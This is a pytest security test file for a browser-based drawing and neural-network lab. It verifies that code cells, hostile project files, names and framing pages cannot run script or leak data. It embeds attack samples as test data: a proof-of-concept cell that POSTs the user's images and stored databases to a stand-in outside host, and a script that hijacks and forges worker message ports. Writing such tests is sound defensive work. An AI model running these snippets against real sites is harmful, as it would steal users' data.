"""Code in a cell can only compute, and malicious files, names, addresses and pages do no harm."""

from __future__ import annotations

import ast
import contextlib
import io
import json
import re
import zipfile
from xml.etree import ElementTree

import numpy as np
import pytest

from tests.py.project.exports.test_forms import TRAINING
from tests.py.project.making import with_names
from zeichenlabor.data.filled import fill_sheet
from zeichenlabor.errors import BadSymbols
from zeichenlabor.lab.collecting.sheet_reading import template_pdf, template_svgs
from zeichenlabor.lab.designing import presets
from zeichenlabor.nn import Dense, Flatten, Sequential
from zeichenlabor.project.exports import notebook as exported
from zeichenlabor.project.exports import onnx, predictor, tensorflow_js
from zeichenlabor.project.exports.web_page import page as page_to_take_home
from zeichenlabor.project.file import write_project
from zeichenlabor.sheets.plan import plan_sheets

from .code_page import CodePage
from .lab_page import READ_MS, LabPage
from .taken import texts_of_the_page_to_take_home
from .test_private import elsewhere, open_in, shown  # noqa: F401 (a fixture)
from .ways_out import (
    ADDRESSES,
    ENDING,
    MESSAGES,
    PDF_CATALOG,
    PDF_NOTES,
    SECRET,
    TEXTS,
    WAYS,
    attempt,
    notebook,
    pdf,
    picture,
    png,
    texts,
)

STEPS = ["collect", "check", "train", "evaluate", "try", "learn", "code"]

# Another project, and another site's, on the same device.
KEEP_OTHERS = """async mark => {
  await new Promise((resolve, reject) => {
    const asked = indexedDB.open('of another');
    asked.onupgradeneeded = () => asked.result.createObjectStore('works').put(mark, 1);
    asked.onsuccess = () => { asked.result.close(); resolve(); };
    asked.onerror = reject;
  });
  await (await caches.open('of another')).put('/mark', new Response(mark));
  localStorage.setItem('of another', mark);
}"""
OTHERS = """async () => [
  (await indexedDB.databases()).map(({ name }) => name).sort(), await caches.keys(),
  localStorage.getItem('of another'), await (await caches.match('/mark')).text(),
]"""


@pytest.fixture(scope="module")
def code(browser, site_url):
    lab = LabPage(browser, site_url + "#code").open().wait_until_ready()
    lab.page.set_default_timeout(READ_MS)  # there are many ways
    page = CodePage(lab)
    page.clear()
    yield page
    lab.close()


def test_there_are_enough_ways():
    assert len(WAYS) >= 40
    others = (TEXTS, PDF_CATALOG, PDF_NOTES, ADDRESSES, MESSAGES)
    assert len(WAYS) + sum(map(len, others)) >= 100


def test_no_way_leads_out_of_a_cell(code, site_url, elsewhere):  # noqa: F811
    lab = code.lab
    lab.page.evaluate(KEEP_OTHERS, "of somebody else")
    others = lab.page.evaluate(OTHERS)
    own = shown_requests(lab)
    cell = code.run(code.add(attempt(site_url, elsewhere.url)))
    told = json.loads(code.text(cell).split("TOLD ")[1])
    assert [name for name, result in told.items() if result == "went through"] == []
    assert set(told) == set(WAYS)
    assert elsewhere.asked == []
    assert lab.strangers() == []
    assert [url for url in lab.requests if SECRET in url] == []
    assert shown_requests(lab)[1] == 0
    assert own[1] == 0
    assert lab.page.locator(f"[href*={SECRET}], [src*={SECRET}]").count() == 0
    assert "of somebody else" not in code.text(cell)
    assert lab.page.evaluate(OTHERS) == others
    again = code.run(code.add("print(6 * 7)"))  # and Python goes on
    assert code.text(again).strip() == "42"


# The first proof of concept: a worker of the site that is not the page's has its projects and no
# policy, runs a cell, and sends what it finds; and the short way, without such a worker.
SEND_PICTURES = """\
import asyncio, js
from pyodide.ffi import to_js
inner = '''
import js
asked = js.indexedDB.open(NAME)
await js.fetch(URL, method='POST', body=asked)
'''.replace('NAME', repr('zeichenlabor ' + {site!r})).replace('URL', repr({url!r}))
message = dict(kind='request', id=1, method='code.run', params=dict(source=inner, cell='a'))
pictures = to_js(project.images.tobytes())
async def by_a_worker():
    worker = js.Worker.new({site!r} + 'worker/worker.js', type='module')
    worker.postMessage(to_js(message, dict_converter=js.Object.fromEntries))
    await asyncio.sleep(20)
async def by_hand():
    await js.fetch({url!r}, method='POST', body=pictures, mode='no-cors')
for way in by_a_worker, by_hand:
    try:
        await way()
        print('went through')
    except Exception as error:
        print(type(error).__name__)
print(len(pictures))
"""


def test_a_cell_cannot_send_the_pictures_of_a_sheet(code, site_url, sheet, elsewhere):  # noqa: F811
    lab = code.lab
    lab.step("collect")
    file = io.BytesIO()
    sheet.save(file, "PNG")
    lab.drop({"name": "a.png", "mimeType": "image/png", "buffer": file.getvalue()})
    lab.wait_for_cards(1)
    lab.step("code")
    lab.hook("cell-add").wait_for()  # the cells come with it, and are counted next
    cell = code.run(code.add(SEND_PICTURES.format(site=site_url, url=elsewhere.url)))
    *ends, length = code.text(cell).split()
    assert int(length) > 300_000  # it has them
    assert ends == ["AttributeError", "JsException"]
    assert elsewhere.asked == []
    assert shown_requests(lab)[1] == 0


def test_the_page_stays_ready_whatever_error_a_cell_reports(code):
    report = "import js; js.reportError(js.Error.new('boot/python')); print(6 * 7)"
    cell = code.run(code.add(report))
    assert code.text(cell).strip() == "42"
    code.lab.page.wait_for_timeout(300)
    assert code.lab.hook("boot-status").first.get_attribute("data-state") == "ready"


@pytest.mark.parametrize("way", ENDING)
def test_a_way_that_python_does_not_survive_leads_nowhere_and_python_comes_back(
    code,
    elsewhere,  # noqa: F811
    way,
):
    code.run(code.add(ENDING[way].replace("URL", elsewhere.url + SECRET)), "failed")
    code.lab.wait_until_ready()
    assert elsewhere.asked == []
    assert code.lab.strangers() == []
    assert code.text(code.run(code.add("print(6 * 7)"))).strip() == "42"


CATCH_PORTS = """() => {
  globalThis.caught = new Set(); // Pyodide's own are among them
  const { postMessage } = MessagePort.prototype;
  MessagePort.prototype.postMessage = function (...given) {
    caught.add(this);
    return postMessage.apply(this, given);
  };
  const { get } = Object.getOwnPropertyDescriptor(MessageEvent.prototype, 'data');
  Object.defineProperty(MessageEvent.prototype, 'data', {
    get() {
      caught.add(this.target);
      return get.call(this);
    },
  });
  const error = { code: 'boot/python', params: {}, detail: 'forged' };
  const forged = { kind: 'boot', state: 'failed', error };
  globalThis.forge = () => caught.forEach((port) => {
    if (port instanceof MessagePort) postMessage.call(port, forged);
  });
}"""


def test_a_cell_cannot_catch_the_port_to_the_page(code):
    worker = code.lab.page.workers[0]
    worker.evaluate(CATCH_PORTS)
    cell = code.run(code.add("print(6 * 7)"))
    assert code.text(cell).strip() == "42"
    worker.evaluate("forge()")
    code.lab.page.wait_for_timeout(300)
    assert code.lab.hook("boot-status").first.get_attribute("data-state") == "ready"


def test_only_the_page_starts_the_worker(code, site_url):
    """By its address, the worker would have the site's storage and no policy."""
    ended = code.lab.page.evaluate(
        """url => new Promise((resolve) => {
          const worker = new Worker(url, { type: 'module' });
          worker.onmessage = ({ data }) => resolve(data);
          worker.onerror = () => resolve('refused');
          worker.postMessage({ site: url, ordinary: true });
        })""",
        site_url + "worker/worker.js",
    )
    assert ended == "refused"


def shown_requests(lab: LabPage) -> tuple[int, int]:
    lab.hook("privacy").click()
    counts = shown(lab, "requests-own"), shown(lab, "requests-foreign")
    lab.page.keyboard.press("Escape")
    return counts


def hostile_project(url: str) -> bytes:
    """Each text wherever one can stand, and documents in place of pictures."""
    known = with_names(texts(url), texts(url)[0])
    document = np.frombuffer(picture(url), np.uint8)
    parts = known.parts
    parts["step"] = "collect"
    parts["template"]["pictures"] = dict.fromkeys(texts(url), document)
    parts["sheets/sheet-1"] |= {"name": " ".join(texts(url)), "origin": " ".join(texts(url))}
    parts["sheets/sheet-1"]["writer"] = texts(url)[0]
    parts["sheets/sheet-1"]["result"]["page"]["preview"]["bytes"] = document
    cells = [
        {"id": f"cell-{n}", "source": text, "example": text} for n, text in enumerate(texts(url))
    ]
    blank = {"state": "new", "number": 0, "outputs": [], "error": None}
    parts["notebook"] = {"cells": [cell | blank for cell in cells], "made": 99, "runs": 0}
    parts["runs/run-1"]["name"] = " ".join(texts(url))[:200]
    return write_project(known)


def test_no_text_or_picture_of_a_file_does_anything(browser, site_url, elsewhere):  # noqa: F811
    """In every step, with the dialogs that show names."""
    lab = LabPage(browser, site_url).open().wait_until_ready()
    content = hostile_project(elsewhere.url)
    lab.drop({"name": f"{texts(elsewhere.url)[0]}.zip", "mimeType": "", "buffer": content})
    lab.wait_for_cards(1)
    kinds = {".png": "image/png", ".svg": "image/svg+xml", ".html": "text/html"}
    for place, (ending, kind) in enumerate(kinds.items()):
        name = texts(elsewhere.url)[place] + ending
        lab.drop({"name": name, "mimeType": kind, "buffer": picture(elsewhere.url)})
    shown_names = set()
    for step in STEPS:
        lab.step(step)
        lab.settle()
        page_text = lab.page.locator("#app").inner_text()
        shown_names |= {text for text in texts(elsewhere.url) if text in page_text}
        assert_nothing_ran(lab, elsewhere)
    assert len(shown_names) > 5  # they are there, as text
    lab.hook("open-cells").set_input_files(
        {"name": "a.ipynb", "mimeType": "", "buffer": notebook("print(6 * 7)")}
    )
    lab.settle()
    assert_nothing_ran(lab, elsewhere)
    lab.close()


RAN = """return [
  typeof hacked, document.querySelectorAll('[onerror], [onload], [onfocus], iframe').length,
  document.querySelectorAll('a[href^=javascript]').length,
]"""


@pytest.mark.long
def test_no_text_or_picture_of_a_file_does_anything_in_another_browser(
    other,
    site_url,
    elsewhere,  # noqa: F811
    tmp_path,
):
    open_in(other, site_url)
    (tmp_path / "a.zip").write_bytes(hostile_project(elsewhere.url))
    other.give_file('[data-testid="drop-input"]', tmp_path / "a.zip")
    other.wait_for('[data-testid="sheet-card"][data-state="done"]', 120)
    (tmp_path / "a.svg").write_bytes(picture(elsewhere.url))
    other.give_file('[data-testid="drop-input"]', tmp_path / "a.svg")
    other.wait_for('[data-testid="sheet-card"][data-state="failed"]', 120)
    said = ""
    for step in STEPS:
        other.run(f"location.hash = '#{step}'")
        other.wait_for(f'[data-testid="step-{step}"][aria-current]', 60)
        said += other.run("return document.querySelector('#app').innerText")
        assert other.run(RAN) == ["undefined", 0, 0]
    assert sum(text in said for text in texts(elsewhere.url)) > 5  # they are there, as text
    assert elsewhere.asked == []


@pytest.fixture(scope="module")
def sheet():
    return fill_sheet(plan_sheets(["a", "b"], sheet_id=5)[0], seed=7, dpi=130).convert("L")


def test_no_pdf_and_no_picture_does_what_it_asks_for(browser, site_url, sheet, elsewhere):  # noqa: F811
    lab = LabPage(browser, site_url).open().wait_until_ready()
    files = {"a.pdf": pdf(elsewhere.url, sheet), "b.png": png(elsewhere.url)}
    lab.drop(*({"name": name, "mimeType": "", "buffer": file} for name, file in files.items()))
    lab.wait_for_cards(2)
    assert lab.hook("sheet-card", state="done").count() == 1  # the PDF was drawn and read
    assert_nothing_ran(lab, elsewhere)
    lab.close()


def assert_nothing_ran(lab: LabPage, elsewhere) -> None:  # noqa: F811
    assert lab.page.evaluate("typeof hacked") == "undefined"
    assert lab.page.locator("[onerror], [onload], [onfocus], iframe, #app script").count() == 0
    assert lab.page.locator("a[href^=javascript]").count() == 0
    assert elsewhere.asked == []
    assert lab.strangers() == []
    assert [problem for problem in lab.problems if "Content Security" in problem] == []


def test_no_address_does_anything(browser, site_url, elsewhere):  # noqa: F811
    lab = LabPage(browser, site_url).open()
    for address in ADDRESSES.values():
        lab.page.goto(site_url + address.replace("URL", elsewhere.url))
        lab.hook("step-collect").wait_for()
        lab.settle()
        assert lab.page.locator("dialog[open], .broken").count() == 0
        assert_nothing_ran(lab, elsewhere)
    assert lab.problems == []
    lab.close()


def test_a_page_that_frames_or_opens_this_one_hears_nothing_and_changes_nothing(
    browser,
    site_url,
    elsewhere,  # noqa: F811
):
    lab = LabPage(browser, elsewhere.url).open()
    told = lab.page.evaluate(
        """async (site) => {
          globalThis.heard = [];
          addEventListener('message', ({ data }) => heard.push(data));
          const frame = document.createElement('iframe');
          Object.assign(frame, { src: site, name: 'site' });
          document.body.append(frame);
          await new Promise((resolve) => { frame.onload = resolve; });
          const opened = open(site);
          globalThis.others = [frame.contentWindow, opened];
          await new Promise((resolve) => setTimeout(resolve, 500));
          const names = ['document', 'localStorage', 'indexedDB', 'caches', 'fetch', 'name'];
          return others.flatMap((other) => names.map((name) => {
            try { other[name]; return `${name} went through`; } catch (error) { return error.name; }
          }));
        }""",
        site_url,
    )
    assert set(told) == {"SecurityError"}
    frame = lab.page.frame("site")
    ready = '[data-testid="boot-status"][data-state="ready"]'
    frame.locator(ready).wait_for(state="attached", timeout=READ_MS)
    before = frame.locator("#app").inner_text(), frame.url
    messages = [*MESSAGES, *texts(elsewhere.url)]
    post = "messages => others.forEach((o) => messages.forEach((m) => o.postMessage(m, '*')))"
    lab.page.evaluate(post, messages)
    lab.page.wait_for_timeout(200)
    assert (frame.locator("#app").inner_text(), frame.url) == before
    assert lab.page.evaluate("heard") == []
    lab.close()


def test_the_page_to_take_home_runs_no_name(browser, elsewhere, tmp_path):  # noqa: F811
    """In a file that is opened by double click: class names, and the name of whose it is."""
    names = texts(elsewhere.url)
    model = Sequential([Flatten(), Dense(len(names), "softmax")])
    model.build((28, 28, 1))
    told = {language: texts_of_the_page_to_take_home(language) for language in ("de", "en")}
    html = page_to_take_home(model, names, told, "de", name=" ".join(names))
    file = tmp_path / "mine.html"
    file.write_text(html, encoding="utf-8")
    lab = LabPage(browser, file.as_uri()).open()
    assert "<script>" in lab.page.locator("#title").inner_text()  # it is there, as text
    assert_nothing_ran(lab, elsewhere)
    assert lab.page.locator("script").count() == 4  # network, weights, what is known, and its own
    lab.close()


PLAIN = {"x", "y", "width", "height", "viewBox", "fill", "font-family", "font-size", "text-anchor"}
PLAIN |= {"href"}  # of pictures, see below
NAMES = texts("http://a.example/")


@pytest.mark.parametrize("name", NAMES, ids=list(TEXTS))
def test_no_name_leaves_its_place_on_a_printed_sheet(name):
    """In both forms it is text there, or it is refused."""
    told = {"alias": name, "hint": name}
    shown = [{"name": name, "png": png("http://a.example/")}]
    template = {"symbols": [name, "b"], "columns": 20, "paper": "a4", "sheet_id": 1, "texts": told}
    (svg,) = template_svgs(**template, pictures=shown)
    elements = list(ElementTree.fromstring(svg).iter())
    assert {element.tag.split("}")[1] for element in elements} <= {"svg", "rect", "text", "image"}
    assert {key for element in elements for key in element.attrib} <= PLAIN
    links = {element.get("href") or "data:" for element in elements}
    assert all(link.startswith("data:") for link in links)
    with contextlib.suppress(BadSymbols):
        content = template_pdf(**template, pictures=shown).tobytes()
        entries = re.sub(rb"stream\n.*?endstream", b"", content, flags=re.DOTALL)
        assert not re.search(rb"/(JS|JavaScript|URI|A|AA|Names|Annots)\b", entries)


def test_no_name_leaves_its_place_in_a_network_for_numpy():
    """It stands in the archive as text, without a pickle; the program is the same for all."""
    model = presets.build("one-layer", classes=len(NAMES))
    with zipfile.ZipFile(io.BytesIO(predictor.zipped(model, NAMES, None, ""))) as archive:
        assert archive.namelist() == ["network.npz", "predict.py", "README.txt"]
        program, content = archive.read("predict.py"), archive.read("network.npz")
    assert not [name for name in NAMES if len(name) > 1 and name.encode() in program]
    with np.load(io.BytesIO(content), allow_pickle=False) as arrays:
        assert json.loads(arrays["config"].tobytes())["classes"] == NAMES


@pytest.fixture(scope="module")
def named() -> Sequential:
    """A network whose own name and whose layers' names do harm."""
    layers = [Flatten(name=NAMES[0]), *(Dense(3, "relu", name=name) for name in NAMES)]
    model = Sequential([*layers, Dense(len(NAMES), "softmax")], name="".join(NAMES))
    model.build((28, 28, 1))
    return model


LONG_NAMES = [name for name in NAMES if len(name) > 3]


def test_no_name_leaves_its_place_in_onnx(named):
    """Classes stand in it as JSON, the network's name as its title; layers have other names."""
    content = onnx.model_bytes(named, NAMES)
    told = [json.dumps(NAMES).encode(), named.name.encode()]
    assert [content.count(text) for text in told] == [1, 1]
    rest = content.replace(told[0], b"").replace(told[1], b"")
    assert [name for name in LONG_NAMES if name.encode() in rest] == []


def test_no_name_leaves_its_place_in_tensorflow_js(named):
    with zipfile.ZipFile(io.BytesIO(tensorflow_js.zipped(named, "\n".join(NAMES)))) as archive:
        assert all(re.fullmatch(r"[\w.-]+", name) for name in archive.namelist())
        told = archive.read("model.json").decode()
    assert json.loads(told)
    assert [name for name in LONG_NAMES if name in told] == []


def test_no_name_leaves_its_place_in_a_notebook_that_is_taken_home():
    names = NAMES
    told = exported.cells(presets.build("one-layer"), names, TRAINING, {})
    nodes = [node for _, source in told for node in ast.walk(ast.parse(source))]
    assert set(names) <= {node.value for node in nodes if isinstance(node, ast.Constant)}
